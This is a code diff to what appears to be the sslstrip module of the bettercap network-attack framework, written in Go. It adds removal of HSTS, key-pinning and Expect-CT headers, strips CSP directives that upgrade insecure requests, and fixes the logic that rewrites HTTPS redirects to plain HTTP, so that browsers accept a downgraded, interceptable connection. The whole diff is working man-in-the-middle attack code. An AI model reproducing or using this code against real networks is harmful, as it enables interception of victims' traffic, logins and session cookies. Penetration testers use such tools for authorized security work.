@@ -8,6 +8,7 @@ import (
 	"net/url"
 	"regexp"
 	"strings"
+	"sync"
 
 	"github.com/bettercap/bettercap/core"
 	"github.com/bettercap/bettercap/log"
@@ -29,26 +30,40 @@ var (
 		"mail":    "wmail",
 		"m":       "wmobile",
 	}
+	// headers that would make the browser stick to HTTPS
+	hstsHeaders = []string{
+		"Strict-Transport-Security",
+		"Public-Key-Pins",
+		"Public-Key-Pins-Report-Only",
+		"Expect-CT",
+	}
+	// CSP directives that would make the browser upgrade stripped links
+	cspUpgradeParser = regexp.MustCompile(`(?i)\s*(upgrade-insecure-requests|block-all-mixed-content)\s*(;|$)`)
 )
 
 type SSLStripper struct {
+	sync.Mutex
 	enabled       bool
 	session       *session.Session
+	module        *session.SessionModule
 	cookies       *CookieTracker
 	hosts         *HostTracker
 	handle        *pcap.Handle
 	pktSourceChan chan gopacket.Packet
 	redirs        map[string]int
+	hsts          map[string]bool
 }
 
-func NewSSLStripper(s *session.Session, enabled bool) *SSLStripper {
+func NewSSLStripper(m *session.SessionModule, enabled bool) *SSLStripper {
 	strip := &SSLStripper{
 		enabled: false,
 		cookies: NewCookieTracker(),
 		hosts:   NewHostTracker(),
-		session: s,
+		session: m.Session,
+		module:  m,
 		handle:  nil,
 		redirs:  make(map[string]int),
+		hsts:    make(map[string]bool),
 	}
 	strip.Enable(enabled)
 	return strip
@@ -131,7 +146,7 @@ func (s *SSLStripper) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp
 	}
 
 	log.Debug("Sending %d bytes of packet ...", len(raw))
-	if err := s.session.Queue.Send(raw); err != nil {
+	if err := s.module.Send(raw); err != nil {
 		log.Error("Error sending packet: %s", err)
 	}
 }
@@ -248,6 +263,8 @@ func (s *SSLStripper) Preprocess(req *http.Request, ctx *goproxy.ProxyCtx) (redi
 		log.Info("[%s] Replacing host %s with %s in request from %s", core.Green("sslstrip"), core.Bold(req.Host), core.Yellow(original.Hostname), req.RemoteAddr)
 		req.Host = original.Hostname
 		req.URL.Host = original.Hostname
+		// we only strip hosts that were served over HTTPS
+		req.URL.Scheme = "https"
 		req.Header.Set("Host", original.Hostname)
 	}
 
@@ -263,6 +280,9 @@ func (s *SSLStripper) Preprocess(req *http.Request, ctx *goproxy.ProxyCtx) (redi
 }
 
 func (s *SSLStripper) isMaxRedirs(hostname string) bool {
+	s.Lock()
+	defer s.Unlock()
+
 	// did we already track redirections for this host?
 	if nredirs, found := s.redirs[hostname]; found {
 		// reached the threshold?
@@ -282,11 +302,53 @@ func (s *SSLStripper) isMaxRedirs(hostname string) bool {
 	return false
 }
 
+// stripHSTS removes the headers that would make the browser refuse to
+// connect to the stripped HTTP version of the host.
+func (s *SSLStripper) stripHSTS(res *http.Response) {
+	host := res.Request.URL.Hostname()
+	hsts := res.Header.Get("Strict-Transport-Security")
+
+	for _, name := range hstsHeaders {
+		res.Header.Del(name)
+	}
+
+	for _, name := range []string{"Content-Security-Policy", "Content-Security-Policy-Report-Only"} {
+		if csp := res.Header.Get(name); csp != "" {
+			if csp = core.Trim(cspUpgradeParser.ReplaceAllString(csp, "")); csp != "" {
+				res.Header.Set(name, csp)
+			} else {
+				res.Header.Del(name)
+			}
+		}
+	}
+
+	if hsts == "" {
+		return
+	}
+
+	s.Lock()
+	defer s.Unlock()
+
+	// only warn once per host
+	if s.hsts[host] {
+		return
+	}
+	s.hsts[host] = true
+
+	if strings.Contains(strings.ToLower(hsts), "preload") {
+		log.Warning("[%s] %s is on the HSTS preload list, browsers shipping it will refuse plain HTTP and can't be stripped.", core.Green("sslstrip"), core.Bold(host))
+	} else {
+		log.Warning("[%s] Stripped HSTS header from %s, clients that already visited it over HTTPS will keep refusing plain HTTP until the policy expires.", core.Green("sslstrip"), core.Bold(host))
+	}
+}
+
 func (s *SSLStripper) Process(res *http.Response, ctx *goproxy.ProxyCtx) {
 	if !s.enabled {
 		return
 	}
 
+	s.stripHSTS(res)
+
 	// is the server redirecting us?
 	if res.StatusCode != 200 {
 		// extract Location header
@@ -296,19 +358,19 @@ func (s *SSLStripper) Process(res *http.Response, ctx *goproxy.ProxyCtx) {
 			newHost := location.Host
 			newURL := location.String()
 
-			// are we getting redirected from http to https?
-			if orig.Scheme == "http" && location.Scheme == "https" {
+			// are we getting redirected to https?
+			if location.Scheme == "https" {
 
-				log.Info("[%s] Got redirection from HTTPS to HTTP: %s -> %s", core.Green("sslstrip"), core.Yellow("http://"+origHost), core.Bold("https://"+newHost))
+				log.Info("[%s] Got redirection from HTTP to HTTPS: %s -> %s", core.Green("sslstrip"), core.Yellow("http://"+origHost), core.Bold("https://"+newHost))
 
 				// if we still did not reach max redirections, strip the URL down to
 				// an alternative HTTP version
-				if s.isMaxRedirs(origHost) {
+				if !s.isMaxRedirs(origHost) {
 					strippedURL := s.processURL(newURL)
 					u, _ := url.Parse(strippedURL)
 					hostStripped := u.Hostname()
 
-					s.hosts.Track(origHost, hostStripped)
+					s.hosts.Track(location.Hostname(), hostStripped)
 
 					res.Header.Set("Location", strippedURL)
 				}